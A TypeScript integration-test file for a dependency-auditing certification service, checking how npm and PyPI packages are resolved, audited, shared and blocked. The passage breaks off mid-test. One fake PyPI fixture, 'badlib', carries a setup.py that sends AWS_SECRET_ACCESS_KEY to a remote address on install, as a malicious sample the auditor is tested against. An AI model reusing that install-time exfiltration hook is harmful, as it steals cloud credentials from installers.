import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { client, logged, runCli, skillMd, startWeb, startWorker, stopAll, uuid, waitFor, waitForStatus } from '../support/harness.js';
import { closeDb, newActorKey, useDb } from '../support/db.js';
import { startFakeNpmAdvisories, startFakePypi, type FakeServer } from '../support/fake-registries.js';
import { makeSdist, makeWheel } from '../support/archives.js';
import { createHash, randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { topPackages } from '../../shared/packages/views.js';
import { Category, PackageAudit, PackageCertificate, Submission } from '../../shared/db/models.js';
import { Wallet } from 'ethers';
import { startTestChain, type TestChain } from '../support/anvil.js';
import { paymentHeaderFor } from '../support/x402-client.js';
import { decodeHeader } from '../../shared/payments/x402/codec.js';
import { callApi, tokenBalance } from '../support/wallet-api.js';
import { deployLocal, fundUsdc } from '../../shared/chain/index.js';

const t = suite('package trust registry: dependencies audited once, shared, and blocking when bad');
const FINAL = ['APPROVED', 'REJECTED', 'ESCALATED', 'SANDBOX_FAILED'];
let web: { url: string };
let api: ReturnType<typeof client>;
let anon: ReturnType<typeof client>;
let pypi: FakeServer;
let advisories: FakeServer;
let env: Record<string, string>;
let workers: Awaited<ReturnType<typeof startWorker>>[];
// A source-hosting service (raw files by commit), for dependency files next to a hosted skill file.
let sourceServer: http.Server;
// The developer x402 channel pays on a private chain.
let chain: TestChain;
let usdc: string;
const payer = Wallet.createRandom();
const hosted = new Map<string, string>();

const benign = (name: string) => ({ [`${name}/__init__.py`]: `"""${name}: small helpers."""\n\ndef add(a, b):\n    return a + b\n`, 'setup.py': `from setuptools import setup\nsetup(name="${name}", version="1.0.0", packages=["${name}"])\n` });
const sdist = (name: string, files: Record<string, string> = benign(name)) => ({ filename: `${name}-1.0.0.tar.gz`, content: makeSdist(name, '1.0.0', files) });
// Releases with an sdist and a wheel: pip installs a pure-Python wheel when there is one (no build runs);
// with only compiled wheels, the sdist is what is built where none fits.
const MIXED_WHEEL = makeWheel('mixedlib', '1.0.0', { 'mixedlib/__init__.py': 'def add(a, b):\n    return a + b\n' });
const MIXED_SDIST = sdist('mixedlib');
const CMIXED_SDIST = sdist('cmixedlib');
const CMIXED_WHEEL = makeWheel('cmixedlib', '1.0.0', { 'cmixedlib/_core.cpython-311-x86_64-linux-gnu.so': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(256)]) }, 'cp311-cp311-manylinux_2_17_x86_64');
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

t.before(
  logged(async () => {
    useDb();
    pypi = await startFakePypi({
      tinylib: { '1.0.0': { files: [sdist('tinylib')], vulnerabilities: [{ id: 'PYSEC-2026-1', summary: 'Example issue', details: 'A test advisory', fixed_in: ['1.0.1'], aliases: ['CVE-2026-0001'] }] } },
      tamperedlib: { '1.0.0': { files: [{ ...sdist('tamperedlib'), sha256: 'f'.repeat(64) }] } },
      toplib: { '1.0.0': { files: [sdist('toplib')], requires_dist: ['midlib>=1.0'] } },
      midlib: { '1.0.0': { files: [sdist('midlib')], requires_dist: ['badlib==1.0.0'] } },
      l1parent: { '1.0.0': { files: [sdist('l1parent')], requires_dist: ['badlib==1.0.0'] } },
      badlib: {
        '1.0.0': {
          files: [sdist('badlib', { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://203.0.113.9/collect?k=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "")).read()\nfrom setuptools import setup\nsetup(name="badlib", version="1.0.0")\n', 'badlib/__init__.py': 'X = 1\n' })],
        },
      },
      twinlib: { '1.0.0': { files: [sdist('twinlib')] } },
      devlib: { '1.0.0': { files: [sdist('devlib')] } },
      afterlib: { '1.0.0': { files: [sdist('afterlib')] } },
      freshlib: { '1.0.0': { files: [sdist('freshlib')] } },
      v1lib: { '1.0.0': { files: [sdist('v1lib')] } },
      // Wheel-only releases: a pure-Python wheel, and a binary one whose module is a compiled .so (ELF).
      wheellib: { '1.0.0': { files: [makeWheel('wheellib', '1.0.0', { 'wheellib/__init__.py': 'def add(a, b):\n    return a + b\n' })] } },
      nativelib: { '1.0.0': { files: [makeWheel('nativelib', '1.0.0', { 'nativelib/_core.cpython-311-x86_64-linux-gnu.so': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(512)]) }, 'cp311-cp311-manylinux_2_17_x86_64')] } },
      mixedlib: { '1.0.0': { files: [MIXED_SDIST, MIXED_WHEEL] } },
      cmixedlib: { '1.0.0': { files: [CMIXED_WHEEL, CMIXED_SDIST] } },
      eggparent: { '1.0.0': { files: [sdist('eggparent')], requires_dist: ['egglib==1.0.0'] } },
      // 12 L1 dependencies against the cap of 10 set below.
      fanlib: { '1.0.0': { files: [sdist('fanlib')], requires_dist: Array.from({ length: 12 }, (_, i) => `leaf${i}==1.0.0`) } },
      ...Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`leaf${i}`, { '1.0.0': { files: [sdist(`leaf${i}`)] } }])),
      // A release whose only file is an egg: no sdist, no wheel to audit.
      egglib: { '1.0.0': { files: [{ filename: 'egglib-1.0.0-py3.11.egg', packagetype: 'bdist_egg', content: 'egg' }] } },
      // Incompressible data makes the sdist larger than PACKAGE_MAX_ARCHIVE_BYTES below.
      biglib: { '1.0.0': { files: [sdist('biglib', { ...benign('biglib'), 'biglib/data.bin': randomBytes(400 * 1024).toString('latin1') })] } },
      // 19,000 modules: its analysis needs more than the 16 MB analysis-thread heap the workers get below.
      hugelib: { '1.0.0': { files: [sdist('hugelib', Object.fromEntries(Array.from({ length: 19_000 }, (_, i) => [`hugelib/${'d'.repeat(80)}/m${i}_${'f'.repeat(80)}.py`, `import os\nos.system("echo ${i}")\n`])))] } },
    });
    advisories = await startFakeNpmAdvisories({ debug: [{ id: 1001, title: 'Test advisory for debug', severity: 'low', vulnerable_versions: '<4.3.5', url: 'https://advisories.example/1001', cwe: ['CWE-400'], cvss: { score: 3.1, vectorString: 'CVSS:3.1/AV:N' } }] });
    sourceServer = http.createServer((req, res) => {
      const body = hosted.get(req.url ?? '');
      if (body === undefined) return void res.writeHead(404).end('not found');
      res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' }).end(body);
    });
    await new Promise<void>((r) => sourceServer.listen(0, '127.0.0.1', () => r()));
    const sourceBase = `http://127.0.0.1:${(sourceServer.address() as AddressInfo).port}`;
    chain = await startTestChain();
    usdc = (await deployLocal(chain.cfg)).usdcAddress;
    await fundUsdc(payer.address, '500', chain.cfg);
    env = { CHAIN_RPC_URL: chain.cfg.rpcUrl, CHAIN_STATE_DIR: chain.stateDir, SOURCE_GITHUB_WEB_BASE: `${sourceBase}/web`, SOURCE_GITHUB_RAW_BASE: `${sourceBase}/raw`, SOURCE_ALLOW_PRIVATE_HOSTS: 'true', PYPI_URL: pypi.baseUrl, NPM_ADVISORY_URL: `${advisories.baseUrl}/-/npm/v1/security/advisories/bulk`, PACKAGE_TRANSITIVE_AUDIT_CAP: '10', PACKAGE_MAX_ARCHIVE_BYTES: String(300 * 1024), PACKAGE_ANALYSIS_HEAP_MB: '16',
      // certificate monitoring is its own suite (monitoring, package-rules): here its advisory checks would race the
      // advisory-status cases below by refreshing a status the test has just set
      MONITOR_ENABLED: 'false' };
    web = await startWeb(env);
    workers = await Promise.all([startWorker(env, 'worker-1'), startWorker(env, 'worker-2')]);
    api = client(web.url, await newActorKey());
    anon = client(web.url);
  }),
);

t.after(async () => {
  await stopAll();
  await chain?.stop();
  await pypi?.close();
  await advisories?.close();
  sourceServer?.closeAllConnections();
  await new Promise((r) => sourceServer?.close(r) ?? r(undefined));
  await closeDb();
});

async function submit(dependencyFiles: Record<string, string>, c = api) {
  const r = await c.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles, idempotencyKey: uuid() });
  assert.is(r.status, 201, JSON.stringify(r.body));
  return waitForStatus(c, r.body.submissionId, FINAL, 90000);
}

const NPM_DEPS = { 'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'is-number': '7.0.0', debug: '^4.3.4 <4.3.5' } }) };

t('npm and PyPI dependencies are resolved, audited, and disclosed on an approved certificate', async () => {
  const detail = await submit({ ...NPM_DEPS, 'requirements.txt': 'tinylib==1.0.0\n' });
  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings));
  const cert = (await anon.get(`/api/v1/public/certificates/${detail.skillId}`)).body.certificate;
  const direct = new Map(cert.packages.direct.map((p: any) => [p.packageName, p]));
  const dbg: any = direct.get('debug');
  assert.is(dbg.declaredSpec, '^4.3.4 <4.3.5');
  assert.is(dbg.auditedVersion, '4.3.4');
  assert.is(dbg.status, 'CERTIFIED');
  assert.match(dbg.distributionSha256, /^[0-9a-f]{64}$/);
  assert.is((direct.get('is-number') as any).auditedVersion, '7.0.0');
  assert.is((direct.get('tinylib') as any).registrySource, 'pypi');
  const ms = cert.packages.transitive.find((p: any) => p.packageName === 'ms');
  assert.ok(ms, JSON.stringify(cert.packages));
  assert.is(ms.level, 1);
  assert.is(ms.via, 'debug@4.3.4');
  assert.equal(ms.path, ['debug@4.3.4', `ms@${ms.auditedVersion}`]);

  const pkg = await anon.get('/api/v1/public/packages/npm/debug/4.3.4');
  assert.is(pkg.status, 200);
  assert.is(pkg.body.registrySource, 'npm');
  assert.is(pkg.body.packageName, 'debug');
  assert.is(pkg.body.councilVerdict, 'APPROVED');
  assert.ok(['CLEAR', 'MONITORED'].includes(pkg.body.securityLevel), pkg.body.securityLevel);
  assert.is(pkg.body.analysisType, 'FULL');
  assert.is(pkg.body.registryAdvisoryCount, 1);
  assert.is(pkg.body.registryAdvisoryHighestSeverity, 'low');
  assert.is(pkg.body.registryAdvisories[0].id, '1001');
  assert.match(pkg.body.verifyEndpoint, /\/api\/v1\/public\/packages\/npm\/debug\/4\.3\.4\/verify$/);
  const v = await anon.get('/api/v1/public/packages/npm/debug/4.3.4/verify');
  assert.is(v.body.integrityVerified, true);
  assert.is(v.body.distributionSha256, pkg.body.distributionSha256);
  assert.match(v.body.fileSetHash, /^[0-9a-f]{64}$/);
  assert.type(v.body.councilRoundId, 'string');
  assert.is(v.body.registryAdvisorySummary.count, 1);
  const isnum = await anon.get('/api/v1/public/packages/npm/is-number/7.0.0');
  assert.is(isnum.body.registryAdvisoryCount, 0);
  assert.is(isnum.body.registryAdvisoryHighestSeverity, null);
  const py = await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0');
  assert.is(py.status, 200);
  assert.is(py.body.registryAdvisoryCount, 1);
  assert.is(py.body.registryAdvisories[0].id, 'PYSEC-2026-1');
  assert.is((await anon.get('/api/v1/public/packages/npm/is-number/6.0.0')).status, 404);
  assert.is((await anon.get('/api/v1/public/packages/cargo/serde/1.0.0')).status, 400);
});

t('a second submitter reuses the certificates: no new audit, counted as cache savings', async () => {
  const before = await PackageCertificate.count();
  const statsBefore = (await anon.get('/api/v1/public/packages/stats')).body;
  const other = client(web.url, await newActorKey());
  const detail = await submit({ ...NPM_DEPS, 'requirements.txt': 'tinylib==1.0.0\n' }, other);
  assert.is(detail.status, 'APPROVED');
  assert.is(await PackageCertificate.count(), before);
  const stats = (await anon.get('/api/v1/public/packages/stats')).body;
  assert.is(stats.totalSubmissionsBenefitingFromCache, statsBefore.totalSubmissionsBenefitingFromCache + 1);
  assert.ok(stats.totalCostSavedUsd > statsBefore.totalCostSavedUsd);
  assert.ok(stats.totalPackagesCertified >= 4);
  assert.ok(stats.codeSubmissionsWithPackages >= 2);
  assert.is(stats.coverage.npm.top100.tracked, 100);
  assert.ok(stats.coverage.npm.top100.certified >= 1); // debug and ms are on the list
  assert.is(stats.coverage.pypi.top1000.tracked, 1000);
});

t('a tampered distribution is a critical finding: BLOCKED, submission stopped', async () => {
  const before = (await anon.get('/api/v1/public/packages/stats')).body;
  const detail = await submit({ 'requirements.txt': 'tamperedlib==1.0.0\n' });
  const after = (await anon.get('/api/v1/public/packages/stats')).body;
  assert.is(after.totalPackagesCertified, before.totalPackagesCertified, 'a digest-mismatch verdict is not a certified package');
  assert.is(detail.status, 'SANDBOX_FAILED');
  const f = detail.findings.find((x: any) => x.ruleId === 'PKG-BLOCKED-001');
  assert.ok(f, JSON.stringify(detail.findings));
  assert.match(f.message, /tamperedlib@1\.0\.0/);
  // The mismatch verdict belongs to that download: a later submission checks the file again (and is blocked again).
  const again = await submit({ 'requirements.txt': 'tamperedlib==1.0.0\n' });
  assert.is(again.status, 'SANDBOX_FAILED');
  assert.ok(pypi.requests.filter((p) => p.includes('/files/') && p.includes('tamperedlib')).length >= 2);
  const pkg = await anon.get('/api/v1/public/packages/pypi/tamperedlib/1.0.0/verify');
  assert.is(pkg.body.securityLevel, 'BLOCKED');
  assert.is(pkg.body.integrityVerified, false);
  assert.ok(pkg.body.retainedWarnings.some((w: any) => w.ruleId === 'PKG-INTEGRITY-001'));
});

t('an earlier verdict on another file of the same version is neither reused nor allowed to settle a new submission', async () => {
  // As if freshlib 1.0.0 had been certified BLOCKED when the registry published another file for it.
  const src = (await PackageCertificate.findOne({ where: { registry: 'pypi', name: 'tinylib', status: 'ACTIVE' } }))!;
  const stale = await PackageCertificate.create({
    ...src.get(),
    id: uuid(),
    name: 'freshlib',
    distributionSha256: '0'.repeat(64),
    publishedDigest: `sha256:${'0'.repeat(64)}`,
    activeKey: `pypi:freshlib@1.0.0:${'0'.repeat(64)}`,
    securityLevel: 'BLOCKED',
    councilVerdict: 'REJECTED',
  });
  await PackageAudit.create({ id: uuid(), registry: 'pypi', name: 'freshlib', version: '1.0.0', status: 'DONE', certificateId: stale.id, error: null });
  const detail = await submit({ 'requirements.txt': 'freshlib==1.0.0\n' });
  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings));
  const cert = (await anon.get(`/api/v1/public/certificates/${detail.skillId}`)).body.certificate;
  const row = cert.packages.direct.find((p: any) => p.packageName === 'freshlib');
  assert.is.not(row.packageCertificateId, stale.id);
  assert.is(row.securityLevel, 'CLEAR');
  assert.is.not(row.distributionSha256, '0'.repeat(64));
});

t('a BLOCKED L1 transitive stops the submission; a BLOCKED L2 is a warning on the certificate', async () => {
  const l1 = await submit({ 'requirements.txt': 'l1parent==1.0.0\n' });
  assert.is(l1.status, 'SANDBOX_FAILED', JSON.stringify(l1.findings));
  assert.ok(l1.findings.some((f: any) => f.ruleId === 'PKG-BLOCKED-001' && /badlib/.test(f.message)));
  const l2 = await submit({ 'requirements.txt': 'toplib==1.0.0\n' });
  assert.is(l2.status, 'APPROVED', JSON.stringify(l2.findings));
  const v = await anon.get(`/api/v1/public/certificates/${l2.skillId}/verify`);
  assert.ok(v.body.retainedWarnings.some((w: any) => w.ruleId === 'PKG-BLOCKED-002'), JSON.stringify(v.body.retainedWarnings));
  const bad = (await anon.get('/api/v1/public/certificates/' + l2.skillId)).body.certificate.packages.transitive.find((p: any) => p.packageName === 'badlib');
  assert.is(bad.level, 2);
  assert.equal(bad.path, ['toplib@1.0.0', 'midlib@1.0.0', 'badlib@1.0.0']);
  assert.is(bad.status, 'BLOCKED');
});

t('a tarball over the in-memory size limit is analysed as it downloads: digest-checked in full, read to its end, judged on its code', async () => {
  // PACKAGE_MAX_ARCHIVE_BYTES is 300 KB here; the sdist carries 400 KB of incompressible data next to its code.
  const detail = await submit({ 'requirements.txt': 'biglib==1.0.0\n' });
  assert.is.not(detail.status, 'SANDBOX_FAILED', JSON.stringify(detail.findings));
  assert.not.ok(detail.findings.some((x: any) => x.ruleId === 'PKG-UNANALYSED-001'), JSON.stringify(detail.findings));
  const v = await anon.get('/api/v1/public/packages/pypi/biglib/1.0.0/verify');
  assert.is(v.status, 200);
  assert.is(v.body.integrityVerified, true);
  assert.ok(v.body.securityLevel === 'CLEAR' || v.body.securityLevel === 'MONITORED', v.body.securityLevel);
  assert.not.ok(v.body.retainedWarnings.some((w: any) => w.ruleId === 'archive_too_large' || w.ruleId === 'entry_point_unread'), JSON.stringify(v.body.retainedWarnings));
  // Every file was read (the data file hashed and passed, the code scanned), and the certificate says so.
  const analysis = JSON.parse(v.body.canonicalJson).analysis;
  assert.ok(analysis.fileCount > 0);
  assert.is(analysis.coverage.complete, true);
  assert.is(analysis.coverage.readToEnd, true);
});

t('an archive whose analysis outgrows the analysis thread heap is certified unanalysed and blocks as a direct dependency; the worker lives on', async () => {
  const detail = await submit({ 'requirements.txt': 'hugelib==1.0.0\n' });
  assert.is(detail.status, 'SANDBOX_FAILED');
  const f = detail.findings.find((x: any) => x.ruleId === 'PKG-UNANALYSED-001');
  assert.ok(f && /hugelib@1\.0\.0/.test(f.message) && f.blocking, JSON.stringify(detail.findings));
  const v = await anon.get('/api/v1/public/packages/pypi/hugelib/1.0.0/verify');
  assert.is(v.status, 200);
  assert.is(v.body.analysisType, 'PARTIAL');
  assert.ok(v.body.retainedWarnings.some((w: any) => w.ruleId === 'analysis_aborted' && /heap/.test(w.message)), JSON.stringify(v.body.retainedWarnings));
  // The same workers go on auditing (the thread died, not the process).
  const after = await submit({ 'requirements.txt': 'afterlib==1.0.0\n' });
  assert.is.not(after.status, 'SANDBOX_FAILED', JSON.stringify(after.findings));
});

t('a version with no auditable file ends the submission (uncertified direct dependency), it never waits forever', async () => {
  const detail = await submit({ 'requirements.txt': 'egglib==1.0.0\n' });
  assert.is(detail.status, 'SANDBOX_FAILED');
  assert.ok(detail.findings.some((f: any) => f.ruleId === 'PKG-UNRESOLVED-001' && /egglib/.test(f.message)), JSON.stringify(detail.findings));
  assert.not.ok(JSON.stringify(detail.findings).includes(pypi.baseUrl), 'registry addresses stay out of findings');
});

t('an L1 transitive that cannot be audited stops the submission like a direct one', async () => {
  const detail = await submit({ 'requirements.txt': 'eggparent==1.0.0\n' });
  assert.is(detail.status, 'SANDBOX_FAILED');
  const f = detail.findings.find((x: any) => x.ruleId === 'PKG-UNRESOLVED-001' && /egglib/.test(x.message));
  assert.ok(f && f.blocking, JSON.stringify(detail.findings));
  assert.match(f.message, /L1 transitive via eggparent/);
});

t('transitives past the per-submission cap are disclosed as uncertified, with attribution, and do not block', async () => {
  const detail = await submit({ 'requirements.txt': 'fanlib==1.0.0\n' });
  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings));
  const cert = (await anon.get(`/api/v1/public/certificates/${detail.skillId}`)).body.certificate;
  assert.is(cert.packages.transitive.length, 10);
  assert.is(cert.packages.uncertified.length, 2);
  for (const u of cert.packages.uncertified) {
    assert.is(u.via, 'fanlib@1.0.0');
    assert.is(u.level, 1);
    assert.match(u.reason, /cap \(10\)/);
    assert.is(u.packageCertificateId, null);
  }
  const names = new Set([...cert.packages.transitive, ...cert.packages.uncertified].map((p: any) => p.packageName));
  assert.is(names.size, 12, 'every L1 is listed once, audited or not');
  assert.ok(detail.findings.filter((x: any) => x.ruleId === 'PKG-UNCERTIFIED-001').every((x: any) => !x.blocking));
  // The submission's audits were separate jobs shared out over both worker processes.
  // (A job the sweeper re-runs finds the certificate and logs again: names, not lines, are counted.)
  const auditedBy = workers.map((w) => new Set(w.lines.filter((l) => l.includes('package audited')).map((l) => /"name":"(leaf\d+|fanlib)"/.exec(l)?.[1]).filter(Boolean)));
  assert.is(new Set([...auditedBy[0]!, ...auditedBy[1]!]).size, 11, 'fanlib and its 10 audited leaves');
  assert.ok(auditedBy.every((n) => n.size > 0), `both worker processes audited some: ${auditedBy.map((x) => x.size)}`);
});

t('dependency files are read from the same source reference as a hosted skill file', async () => {
  const ref = 'd1b2c3d4e5f60718293a4b5c6d7e8f9012345678';
  const webUrl = `${env.SOURCE_GITHUB_WEB_BASE}/acme/app/blob/main/skill/SKILL.md`;
  const raw = (file: string) => `/raw/acme/app/${ref}/skill/${file}`;
  hosted.set(raw('SKILL.md'), skillMd());
  hosted.set(raw('requirements.txt'), 'tinylib==1.0.0\n');
  hosted.set(raw('package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'is-number': '7.0.0' } }));
  const r = await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', sourceUrl: webUrl, sourceRef: ref, idempotencyKey: uuid() });
  assert.is(r.status, 201, JSON.stringify(r.body));
  const detail = await waitForStatus(api, r.body.submissionId, FINAL, 90000);
  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings));
  const cert = (await anon.get(`/api/v1/public/certificates/${detail.skillId}`)).body.certificate;
  const direct = cert.packages.direct.map((p: any) => `${p.registrySource}:${p.packageName}@${p.auditedVersion}:${p.declaredSpec}`).sort();
  assert.equal(direct, ['npm:is-number@7.0.0:7.0.0', 'pypi:tinylib@1.0.0:==1.0.0']);

  // Next to a skill file with no dependency files at that commit, a CODE+PACKAGES submission has nothing to audit: refused.
  const ref2 = 'e1b2c3d4e5f60718293a4b5c6d7e8f9012345678';
  hosted.set(`/raw/acme/app/${ref2}/skill/SKILL.md`, skillMd());
  const none = await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', sourceUrl: webUrl, sourceRef: ref2, idempotencyKey: uuid() });
  assert.is(none.status >= 400 && none.status < 500, true, JSON.stringify(none.body));
  assert.is(none.body.error.field, 'dependencyFiles', JSON.stringify(none.body));
});

t('a certificate without an advisory snapshot resolves it live, stores it once known, and never reads unknown as none', async () => {
  const where = { registry: 'npm', name: 'debug', version: '4.3.4', status: 'ACTIVE' };
  // As if the advisory source had been unreachable during the audit.
  await PackageCertificate.update({ advisoryStatus: 'unknown', advisories: [], advisoriesFetchedAt: null }, { where });
  // A web process whose advisory source is down: the status says unknown; the count (an integer, spec
  // 2.3) is the advisories known, 0, and the text says "unknown" in words, never "no advisories".
  const down = await startWeb({ ...env, NPM_ADVISORY_URL: 'http://127.0.0.1:9/-/npm/v1/security/advisories/bulk' });
  const dark = await client(down.url).get('/api/v1/public/packages/npm/debug/4.3.4');
  assert.is(dark.status, 200);
  assert.is(dark.body.registryAdvisoryStatus, 'unknown');
  assert.is(dark.body.registryAdvisoryCount, 0);
  assert.is(dark.body.registryAdvisoryHighestSeverity, null);
  assert.match(dark.body.registryAdvisorySummary, /unknown/i);
  assert.not.match(dark.body.registryAdvisorySummary, /no published advisories/i);
  const darkVerify = await client(down.url).get('/api/v1/public/packages/npm/debug/4.3.4/verify');
  assert.is(darkVerify.body.registryAdvisoryCount, 0);
  assert.equal([darkVerify.body.registryAdvisorySummary.status, darkVerify.body.registryAdvisorySummary.count], ['unknown', 0]);
  assert.is((await PackageCertificate.findOne({ where }))!.advisoryStatus, 'unknown', 'nothing stored while unknown');
  // The service's own web process reaches the source: resolved live and stored.
  const live = await anon.get('/api/v1/public/packages/npm/debug/4.3.4');
  assert.is(live.body.registryAdvisoryStatus, 'ok');
  assert.is(live.body.registryAdvisoryCount, 1);
  assert.is(live.body.registryAdvisoryHighestSeverity, 'low');
  const liveVerify = await anon.get('/api/v1/public/packages/npm/debug/4.3.4/verify');
  assert.equal([liveVerify.body.registryAdvisorySummary.status, liveVerify.body.registryAdvisorySummary.count, liveVerify.body.registryAdvisorySummary.bySeverity], ['ok', 1, { low: 1 }]);
  assert.is(String(live.body.registryAdvisories[0].id), '1001');
  const stored = (await PackageCertificate.findOne({ where }))!;
  assert.is(stored.advisoryStatus, 'ok');
  assert.is((stored.advisories as unknown[]).length, 1);
});

t('package preview while a registry does not answer: the row is UNCERTIFIED, NOT_ESTIMATED and free, and says why', async () => {
  const dark = await startWeb({ ...env, PYPI_URL: 'http://127.0.0.1:9/' });
  const tok = JSON.parse((await runCli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'], env)).stdout).token;
  const dev = client(dark.url, tok);
  const draft = await dev.post('/api/v1/cert/dev/drafts', { productType: 'CODE+PACKAGES', dependencyFiles: { 'requirements.txt': 'freshlib>=1.0\n' } });
  assert.is(draft.status, 201, JSON.stringify(draft.body));
  const p = await dev.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`);
  assert.is(p.status, 200, JSON.stringify(p.body));
  const [row] = p.body.items;
  assert.equal([row.status, row.estimatedComplexityTier, row.estimatedPriceUsd, row.packageVersion], ['UNCERTIFIED', 'NOT_ESTIMATED', 0, null]);
  assert.match(row.warnings.join(' '), /reach|unreachable|answer/i);
  assert.equal([p.body.packagesUncertified, p.body.uncachedCostUsd, p.body.price.packagesUsd], [1, 0, 0]);
});

t('a package-lock.json whose integrity is not the published file stops the submission', async () => {
  const pkg = { name: 'app', version: '1.0.0', dependencies: { 'is-number': '^7.0.0' } };
  const lock = { name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': pkg, 'node_modules/is-number': { version: '7.0.0', integrity: `sha512-${Buffer.alloc(64, 9).toString('base64')}` } } };
  const detail = await submit({ 'package.json': JSON.stringify(pkg), 'package-lock.json': JSON.stringify(lock) });
  assert.is(detail.status, 'SANDBOX_FAILED');
  const f = detail.findings.find((x: any) => x.ruleId === 'PKG-UNRESOLVED-001' && /is-number/.test(x.message));
  assert.ok(f && f.blocking, JSON.stringify(detail.findings));
  assert.match(f.message, /lockfile_integrity_mismatch/);
});

t('wheel-only releases are audited from the wheel (zip): pure Python FULL; compiled-only BINARY_ONLY with the binary flagged', async () => {
  const detail = await submit({ 'requirements.txt': 'wheellib==1.0.0\nnativelib==1.0.0\n' });
  assert.ok(FINAL.includes(detail.status));
  const pure = (await anon.get('/api/v1/public/packages/pypi/wheellib/1.0.0/verify')).body;
  assert.is(pure.distributionKind, 'wheel');
  assert.is(pure.distributionFilename, 'wheellib-1.0.0-py3-none-any.whl');
  assert.match(pure.distributionChoice, /wheel/);
  assert.is(pure.analysisType, 'FULL');
  assert.is(pure.integrityVerified, true);
  assert.ok(['CLEAR', 'MONITORED'].includes(pure.securityLevel), pure.securityLevel);
  const native = (await anon.get('/api/v1/public/packages/pypi/nativelib/1.0.0/verify')).body;
  assert.is(native.distributionKind, 'wheel');
  assert.match(native.distributionChoice, /binary|no source/i);
  assert.is(native.analysisType, 'BINARY_ONLY');
  const sealed = JSON.parse(native.canonicalJson);
  assert.ok(sealed.analysis.binaries.some((b: string) => b.endsWith('.so')), JSON.stringify(sealed.analysis));
});

t('sdist and wheel published: the certificate names the analysed one (the pure wheel pip installs; else the sdist it builds) and its SHA-256 is that file\'s', async () => {
  const detail = await submit({ 'requirements.txt': 'mixedlib==1.0.0\ncmixedlib==1.0.0\n' });
  assert.ok(FINAL.includes(detail.status));
  const mixed = (await anon.get('/api/v1/public/packages/pypi/mixedlib/1.0.0/verify')).body;
  assert.is(mixed.distributionKind, 'wheel');
  assert.is(mixed.distributionFilename, MIXED_WHEEL.filename);
  assert.match(mixed.distributionChoice, /pure-Python wheel/);
  assert.is(mixed.distributionSha256, sha256(MIXED_WHEEL.content));
  assert.is.not(mixed.distributionSha256, sha256(MIXED_SDIST.content));
  const cmixed = (await anon.get('/api/v1/public/packages/pypi/cmixedlib/1.0.0/verify')).body;
  assert.is(cmixed.distributionKind, 'sdist');
  assert.is(cmixed.distributionFilename, CMIXED_SDIST.filename);
  assert.match(cmixed.distributionChoice, /sdist/);
  assert.is(cmixed.distributionSha256, sha256(CMIXED_SDIST.content));
  assert.is(cmixed.analysisType, 'FULL');
});

t('refused declarations get a 422 naming each dependency and why; nothing is stored', async () => {
  const r = await api.post('/cert/v1/submissions/submit', {
    categoryKey: 'CODE+PACKAGES',
    skillMdContent: skillMd(),
    idempotencyKey: uuid(),
    dependencyFiles: { 'package.json': JSON.stringify({ dependencies: { 'left-pad': 'github:stevemao/left-pad', lodash: '*', chalk: 'latest' } }), 'requirements.txt': 'requests\nflask @ git+https://example.org/flask.git\n' },
  });
  assert.is(r.status, 422);
  assert.is(r.body.error.code, 'dependency_refused');
  const codes = Object.fromEntries(r.body.error.details.map((d: any) => [d.name, d.code]));
  assert.is(codes['left-pad'], 'vcs_source');
  assert.is(codes.lodash, 'wildcard');
  assert.is(codes.chalk, 'floating_tag');
  assert.is(codes.requests, 'wildcard');
  assert.ok(['vcs_source', 'url_source'].includes(codes.flask));
  const noManifest = await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd(), idempotencyKey: uuid() });
  assert.is(noManifest.status, 422);
  assert.is(noManifest.body.error.code, 'missing_dependency_manifest');
  const wrongType = await api.post('/cert/v1/submissions/submit', { categoryKey: 'SKILL', skillMdContent: skillMd(), idempotencyKey: uuid(), dependencyFiles: { 'requirements.txt': 'x==1' } });
  assert.is(wrongType.body.error.code, 'dependency_files_not_allowed');
});

t('a package needed by two submissions at the same moment is audited once', async () => {
  const deps = { 'requirements.txt': 'twinlib==1.0.0\n' };
  const [a, b] = await Promise.all([submit(deps), submit(deps, client(web.url, await newActorKey()))]);
  assert.is(a.status, 'APPROVED');
  assert.is(b.status, 'APPROVED');
  assert.is(await PackageCertificate.count({ where: { registry: 'pypi', name: 'twinlib', version: '1.0.0' } }), 1);
  assert.is(await PackageAudit.count({ where: { registry: 'pypi', name: 'twinlib', version: '1.0.0' } }), 1);
  const files = pypi.requests.filter((p) => p.includes('/files/') && p.includes('twinlib'));
  assert.is(files.length, 1, files.join(','));
});

t('developer package preview of a draft: cached, to audit, rejected, with tiers, prices and transitive counts', async () => {
  const cli = (args: string[]) => runCli(args, env);
  const tok = JSON.parse((await cli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'])).stdout).token;
  const dev = client(web.url, tok);
  assert.is((await client(web.url, 'cert_dev_nope').post('/api/v1/cert/dev/drafts', {})).status, 401);
  const draft = await dev.post('/api/v1/cert/dev/drafts', {
    productType: 'CODE+PACKAGES',
